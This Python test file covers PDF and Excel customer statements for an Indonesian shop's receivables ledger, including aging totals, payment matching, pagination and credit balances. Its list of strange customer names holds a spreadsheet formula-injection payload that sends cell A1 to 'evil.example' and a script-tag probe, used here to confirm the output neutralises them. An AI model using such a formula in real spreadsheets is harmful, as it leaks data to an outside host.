"""The statement of account: its figures agree with aging, its PDF and Excel are real files."""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta
from functools import partial
from pathlib import Path

import openpyxl
import pypdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.aging import customer_balances
from core.documents.base import UNICODE_FONTS, BusinessInfo
from core.documents.statement import statement_pdf
from core.i18n import Lang
from core.ledger import Ledger, build_ledger, customer_key
from core.money import format_rupiah
from core.pdftext import shorten
from core.report import load_files
from core.statement import (
    Statement,
    UnknownCustomerError,
    statement_rows,
    statement_xlsx,
)
from tests.factories import invoice, payment

TODAY = date(2026, 11, 23)


# This file's invoices: numbered F-001…, on the November sheet of buku.xlsx, with a phone.
pay = partial(payment, file="buku.xlsx", sheet="Pembayaran")
inv = partial(invoice, numbering="F-{:03d}", file="buku.xlsx", sheet="Nov", phone="0812-3456-7890")

SAMPLE = Path(__file__).resolve().parent.parent / "sample_data"
SHOP = BusinessInfo("Toko Sumber Rejeki", "Jl. Kapasan No. 112, Surabaya", "031-3531234")
# Both ways of drawing text: the Unicode TrueType font (when this machine has one) and the
# built-in Latin-1 font every machine has.
FONTS = pytest.mark.parametrize("fonts", [UNICODE_FONTS], ids=["ttf"])


def many(customer: str, count: int) -> Ledger:
    """``count`` open invoices of ``customer``, due one day apart, some partly paid."""
    return build_ledger(
        inv(i, customer, 1_000_000 + 25_000 * i, 100_000 * (i % 3), 100 - 2 * i)
        for i in range(count)
    )


def pdf_text(data: bytes) -> tuple[int, str]:
    reader = pypdf.PdfReader(io.BytesIO(data))
    return len(reader.pages), "\n".join(page.extract_text() for page in reader.pages)


@pytest.fixture(scope="module")
def sample() -> Ledger:
    _, ledger = load_files([SAMPLE / "buku_piutang_toko_sumber_rejeki.xlsx"])
    return ledger


def test_open_invoices_come_first_by_due_date_then_paid_ones() -> None:
    ledger = build_ledger(
        [
            inv(1, "Toko A", 100_000, 100_000, 40),
            inv(2, "Toko A", 300_000, 50_000, 5),
            inv(3, "TOKO  A", 200_000, 0, 20),
            inv(4, "Toko A", 150_000, 0, -10),
            inv(5, "Toko B", 999_000, 0, 20),
        ]
    )
    statement = statement_rows(ledger, customer_key("toko a"), TODAY)
    assert statement.name == "Toko A"
    assert statement.phone == "0812-3456-7890"
    assert [line.number for line in statement.lines] == ["F-003", "F-002", "F-004", "F-001"]
    assert [line.days_late for line in statement.lines] == [20, 5, 0, 0]
    assert [line.number for line in statement.paid_lines] == ["F-001"]
    totals = statement.totals
    assert (totals.amount, totals.paid, totals.outstanding, totals.overdue) == (
        750_000,
        150_000,
        600_000,
        450_000,
    )
    assert statement.open_totals.amount == 650_000
    assert statement.aging == {
        "current": 150_000,
        "1-30": 450_000,
        "31-60": 0,
        "61-90": 0,
        "90+": 0,
    }


def test_payments_are_matched_by_invoice_number_or_by_customer() -> None:
    ledger = build_ledger(
        [inv(1, "Toko A", 500_000, 0, 10), inv(2, "Toko B", 500_000, 0, 10)],
        [
            pay(100_000, date(2026, 11, 10), "f-001"),
            pay(50_000, date(2026, 11, 1), "", "TOKO A"),
            pay(70_000, date(2026, 11, 2), "F-002", "Toko B"),
            pay(10_000, None, "X-999", "Toko A"),
            pay(20_000, date(2026, 11, 3), "X-998"),
        ],
    )
    statement = statement_rows(ledger, customer_key("Toko A"), TODAY)
    assert [p.amount for p in statement.payments] == [50_000, 100_000, 10_000]


def test_a_shared_invoice_number_goes_to_the_customer_the_payment_names() -> None:
    ledger = build_ledger(
        [inv("F-1", "Toko A", 500_000, 0, 10, row=3), inv("F-1", "Toko B", 400_000, 0, 10, row=4)],
        [pay(100_000, date(2026, 11, 10), "F-1", "Toko B")],
    )
    assert statement_rows(ledger, customer_key("Toko A"), TODAY).payments == ()
    assert len(statement_rows(ledger, customer_key("Toko B"), TODAY).payments) == 1


def test_an_unknown_customer_is_an_error() -> None:
    with pytest.raises(UnknownCustomerError):
        statement_rows(many("Toko A", 2), customer_key("Toko Z"), TODAY)


def assert_agrees_with_aging(ledger: Ledger, as_of: date) -> None:
    for balance in customer_balances(ledger, as_of):
        statement = statement_rows(ledger, balance.key, as_of)
        assert statement.name == balance.name
        assert statement.totals.outstanding == balance.outstanding
        assert statement.totals.overdue == balance.overdue
        assert dict(statement.aging) == balance.aging
        assert len(statement.lines) == balance.invoices
        assert len(statement.open_lines) == balance.open_invoices
        assert sum(statement.aging.values()) == statement.totals.outstanding


def test_totals_equal_customer_balances_on_the_sample_ledger(sample: Ledger) -> None:
    assert_agrees_with_aging(sample, TODAY)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["A", "a ", "B", "C"]),
            st.integers(0, 10**9),
            st.integers(0, 10**9),
            st.integers(-60, 400),
        ),
        min_size=1,
        max_size=25,
    )
)
def test_totals_always_equal_customer_balances(rows: list[tuple[str, int, int, int]]) -> None:
    ledger = build_ledger(inv(i, c, a, p, d) for i, (c, a, p, d) in enumerate(rows))
    assert_agrees_with_aging(ledger, TODAY)


@FONTS
def test_the_pdf_is_a_one_page_letter_with_the_name_total_and_date(
    fonts: tuple[tuple[str, str], ...],
) -> None:
    statement = statement_rows(
        many("Toko Makmur Jaya", 15), customer_key("toko makmur jaya"), TODAY
    )
    data = statement_pdf(statement, business=SHOP, as_of=TODAY, fonts=fonts)
    assert data.startswith(b"%PDF")
    pages, text = pdf_text(data)
    assert pages == 1
    total = format_rupiah(statement.totals.outstanding)
    assert total.startswith("Rp ") and total.count(".") == 2
    for expected in (
        "PERNYATAAN PIUTANG",
        "Kepada Yth. Toko Makmur Jaya",
        "Per tanggal 23 Nov 2026",
        "Toko Sumber Rejeki",
        "Terlambat",
        "Umur piutang",
        "Hormat kami",
        total,
    ):
        assert expected in text, expected


def test_the_pdf_in_english() -> None:
    statement = statement_rows(many("Joko Susilo", 3), customer_key("Joko Susilo"), TODAY)
    _, text = pdf_text(statement_pdf(statement, business=SHOP, lang="en"))
    assert "STATEMENT OF ACCOUNT" in text
    assert "To: Joko Susilo" in text
    assert "As of 23 Nov 2026" in text


def test_a_plain_name_is_addressed_as_bapak_ibu() -> None:
    statement = statement_rows(many("Joko Susilo", 3), customer_key("Joko Susilo"), TODAY)
    _, text = pdf_text(statement_pdf(statement, business=SHOP))
    assert "Kepada Yth. Bapak/Ibu Joko Susilo" in text


@FONTS
def test_sixty_invoices_break_across_pages_with_the_header_repeated(
    fonts: tuple[tuple[str, str], ...],
) -> None:
    statement = statement_rows(many("Toko Besar", 60), customer_key("Toko Besar"), TODAY)
    reader = pypdf.PdfReader(io.BytesIO(statement_pdf(statement, business=SHOP, fonts=fonts)))
    assert len(reader.pages) >= 2
    texts = [page.extract_text() for page in reader.pages]
    table_pages = [text for text in texts if "F-0" in text]
    assert len(table_pages) >= 2
    assert all("No. Faktur" in text for text in table_pages)
    assert all("Toko Sumber Rejeki" in text for text in texts)
    assert sum(text.count("F-0") for text in texts) == 60
    assert format_rupiah(statement.totals.outstanding) in texts[-1] + texts[-2]


STRANGE_NAMES = [
    "Toko Berkah 🙏🏽 Jaya",
    "王小明商店",
    '=HYPERLINK("http://evil.example/?q="&A1,"Klik")',
    "<script>alert('x')</script> Toko **Tebal**",
    "متجر النور",
    "Café Ñoño “Sentosa” — Ü\u200d\u0301",
    "Toko\tTab\nBaris Baru\x00\x07",
    "PT " + "Sangat Panjang " * 20,
]


@FONTS
@pytest.mark.parametrize("name", STRANGE_NAMES)
def test_strange_names_do_not_break_the_pdf(name: str, fonts: tuple[tuple[str, str], ...]) -> None:
    ledger = build_ledger([inv(1, name, 1_250_000, 0, 12), inv(2, name, 300_000, 0, 2)])
    statement = statement_rows(ledger, customer_key(name), TODAY)
    business = BusinessInfo(name, name, name)
    data = statement_pdf(statement, business=business, as_of=TODAY, fonts=fonts)
    pages, text = pdf_text(data)
    assert pages >= 1
    assert "Rp 1.550.000" in text


@FONTS
def test_formula_and_markup_names_are_printed_as_text(fonts: tuple[tuple[str, str], ...]) -> None:
    name = '=HYPERLINK("x") <b>Toko</b> **Maju**'
    statement = statement_rows(many(name, 2), customer_key(name), TODAY)
    _, text = pdf_text(statement_pdf(statement, business=SHOP, fonts=fonts))
    assert name in text.replace("\n", " ")


LONG_NAMES = {
    "words": "Toko " + "Berkah Jaya " * 1333,
    "one-word": "Toko" + "x" * 16_000,
}


@FONTS
@pytest.mark.parametrize("name", LONG_NAMES.values(), ids=LONG_NAMES.keys())
def test_a_very_long_name_is_shortened_and_the_pdf_comes_at_once(
    name: str, fonts: tuple[tuple[str, str], ...]
) -> None:
    statement = statement_rows(many(name, 3), customer_key(name), TODAY)
    data = statement_pdf(statement, business=SHOP, fonts=fonts)
    pages, text = pdf_text(data)
    assert pages == 1
    short = shorten(name)
    assert short.endswith("…")
    flat = "".join(text.split())
    assert "".join(short.split()) in flat
    assert "".join(name[:200].split()) not in flat


def test_no_open_invoices_is_a_thank_you_not_a_demand() -> None:
    ledger = build_ledger([inv(1, "Toko Lunas", 500_000, 500_000, 30)])
    statement = statement_rows(ledger, customer_key("Toko Lunas"), TODAY)
    _, text = pdf_text(statement_pdf(statement, business=SHOP))
    assert "tidak ada tagihan yang belum lunas" in text
    assert "Mohon kiranya" not in text


def test_the_date_given_must_be_the_statements_date() -> None:
    statement = statement_rows(many("Toko A", 2), customer_key("Toko A"), TODAY)
    with pytest.raises(ValueError, match="2026-11-23"):
        statement_pdf(statement, as_of=TODAY + timedelta(days=1))
    with pytest.raises(ValueError):
        statement_xlsx(statement, as_of=TODAY - timedelta(days=1))


def test_the_pdf_is_the_same_bytes_every_time() -> None:
    statement = statement_rows(many("Toko A", 4), customer_key("Toko A"), TODAY)
    assert statement_pdf(statement, business=SHOP) == statement_pdf(statement, business=SHOP)


def test_a_sample_customer_renders(sample: Ledger) -> None:
    top = customer_balances(sample, TODAY)[0]
    statement = statement_rows(sample, top.key, TODAY)
    pages, text = pdf_text(statement_pdf(statement, business=SHOP, as_of=TODAY))
    assert pages == 1
    assert top.name in text
    assert format_rupiah(top.outstanding) in text


def open_sheets(statement: Statement, lang: Lang = "id") -> openpyxl.Workbook:
    data = statement_xlsx(statement, business=SHOP, as_of=TODAY, lang=lang)
    return openpyxl.load_workbook(io.BytesIO(data))


def test_the_excel_total_equals_the_statement_total(sample: Ledger) -> None:
    key = customer_balances(sample, TODAY)[0].key
    statement = statement_rows(sample, key, TODAY)
    book = open_sheets(statement)
    assert book.sheetnames == ["Ringkasan", "Faktur belum lunas", "Pembayaran"]
    sheet = book["Faktur belum lunas"]
    header = [cell.value for cell in sheet[1]]
    assert header[:8] == [
        "No. Faktur",
        "Tanggal",
        "Jatuh Tempo",
        "Jumlah",
        "Dibayar",
        "Retur",
        "Sisa",
        "Terlambat (hari)",
    ]
    last = [cell.value for cell in sheet[sheet.max_row]]
    assert last[0] == "Total"
    assert last[header.index("Sisa")] == statement.totals.outstanding
    assert last[header.index("Jumlah")] == statement.open_totals.amount
    assert sheet.max_row == len(statement.open_lines) + 2
    first = sheet[2]
    assert isinstance(first[1].value, datetime)
    assert first[5].number_format == "#,##0"
    summary = {row[0].value: row[1].value for row in book["Ringkasan"].iter_rows(min_row=2)}
    assert summary["Pelanggan"] == statement.name
    assert summary["Sisa tagihan"] == statement.totals.outstanding
    assert len(list(book["Pembayaran"].iter_rows(min_row=2))) == len(statement.payments)


def test_the_excel_in_english_neutralises_a_formula_name() -> None:
    name = '=HYPERLINK("http://evil.example","Klik")'
    statement = statement_rows(many(name, 3), customer_key(name), TODAY)
    book = open_sheets(statement, "en")
    assert book.sheetnames == ["Summary", "Open invoices", "Payments"]
    summary = {row[0].value: row[1] for row in book["Summary"].iter_rows(min_row=2)}
    assert summary["Customer"].value == name  # as written, with Excel's quote prefix
    assert summary["Customer"].data_type == "s" and summary["Customer"].quotePrefix
    last = [cell.value for cell in book["Open invoices"][book["Open invoices"].max_row]]
    assert last[0] == "Total" and last[6] == statement.totals.outstanding


def test_each_line_says_where_its_invoice_was_read_and_its_bucket() -> None:
    # The customer page's table of invoices is the statement's lines: F1 100 due 60 days ago
    # (31-60), F2 paid; each line names its file, sheet and row as the invoice does.
    ledger = build_ledger([invoice(1, "A", 100, 0, 60), invoice(2, "A", 50, 50, 10)])
    lines = {line.number: line for line in statement_rows(ledger, "A", TODAY).lines}
    assert (lines["F1"].bucket, lines["F2"].bucket) == ("31-60", "")
    assert lines["F1"].source == ledger.invoices[0].source


def test_the_excel_payments_sheet_tells_a_return_from_money_paid() -> None:
    # Round 90: Toko Sentosa Prima paid 1.500.000 on INV-201 and sent goods back for 500.000
    # on INV-202; the "Pembayaran" sheet listed both as "Jumlah bayar" (2.000.000 paid).
    ledger = build_ledger(
        [
            invoice("INV-201", "Toko Sentosa Prima", 4_000_000, 0, 67),
            invoice("INV-202", "Toko Sentosa Prima", 2_500_000, 0, -8),
        ],
        [
            pay(1_500_000, date(2026, 10, 10), "INV-201"),
            pay(500_000, date(2026, 11, 20), "INV-202", sheet="Retur", kind="return"),
        ],
    )
    statement = statement_rows(ledger, customer_key("Toko Sentosa Prima"), TODAY)
    for lang, kinds in (("id", ["Pembayaran", "Retur"]), ("en", ["Payment", "Return"])):
        book = open_sheets(statement, lang)  # type: ignore[arg-type]
        sheet = book[book.sheetnames[2]]
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
        header, body = rows[0], rows[1:]
        paid, back = header.index(sheet.cell(1, 4).value), header.index(sheet.cell(1, 5).value)
        assert [row[2] for row in body] == kinds
        assert [row[paid] for row in body] == [1_500_000, None]
        assert [row[back] for row in body] == [None, 500_000]
    assert header == ["Payment date", "Invoice no.", "Kind", "Amount paid", "Returned"]
    invoices = open_sheets(statement)["Faktur belum lunas"]
    head = [cell.value for cell in invoices[1]]
    total = [cell.value for cell in invoices[invoices.max_row]]
    assert (total[head.index("Dibayar")], total[head.index("Retur")]) == (1_500_000, 500_000)


def test_a_credit_balance_is_told_in_the_statement() -> None:
    # Round 90: CV Maju Terus paid 5.500.000 against 5.000.000; the statement said only
    # "tidak ada tagihan yang belum lunas", not the 500.000 the shop holds for them.
    ledger = build_ledger(
        [invoice("F-103", "CV Maju Terus", 5_000_000, 0, 84)],
        [pay(5_500_000, date(2026, 9, 5), customer="CV Maju Terus")],
    )
    statement = statement_rows(ledger, customer_key("CV Maju Terus"), TODAY)
    assert statement.credit_balance == 500_000
    _, text = pdf_text(statement_pdf(statement, business=SHOP))
    flat = " ".join(text.split())
    assert "tidak ada tagihan yang belum lunas" in flat
    assert "kelebihan bayar (titipan) Bapak/Ibu sebesar Rp 500.000" in flat
    _, english = pdf_text(statement_pdf(statement, business=SHOP, lang="en"))
    assert "credit balance of Rp 500.000" in " ".join(english.split())
    for lang, label in (
        ("id", "Kelebihan bayar (titipan)"),
        ("en", "Credit balance (held for you)"),
    ):
        book = open_sheets(statement, lang)  # type: ignore[arg-type]
        summary = {row[0].value: row[1].value for row in book[book.sheetnames[0]].iter_rows()}
        assert summary[label] == 500_000
    # Without a credit balance, no such row and the plain thank-you.
    owed = statement_rows(ledger_of_one_paid(), customer_key("Toko Lunas"), TODAY)
    summary = {r[0].value: r[1].value for r in open_sheets(owed)["Ringkasan"].iter_rows()}
    assert "Kelebihan bayar (titipan)" not in summary


def ledger_of_one_paid() -> Ledger:
    return build_ledger([inv(1, "Toko Lunas", 500_000, 500_000, 30)])


def test_an_opening_balance_is_named_saldo_awal() -> None:
    # Round 90: Toko Sinar Jaya's opening balance (no number) was printed "-" in the
    # statement's table and left empty in its workbook.
    ledger = build_ledger(
        [
            invoice("", "Toko Sinar Jaya", 2_000_000, 1_000_000, due=date(2026, 9, 1),
                    due_source="opening", row=5),
            invoice("F-101", "Toko Sinar Jaya", 3_500_000, 0, due=date(2026, 11, 14), row=6),
        ]
    )  # fmt: skip
    statement = statement_rows(ledger, customer_key("Toko Sinar Jaya"), TODAY)
    _, text = pdf_text(statement_pdf(statement, business=SHOP))
    assert "Saldo awal" in text
    _, english = pdf_text(statement_pdf(statement, business=SHOP, lang="en"))
    assert "Opening balance" in " ".join(english.split())
    sheet = open_sheets(statement)["Faktur belum lunas"]
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["Saldo awal", "F-101", "Total"]
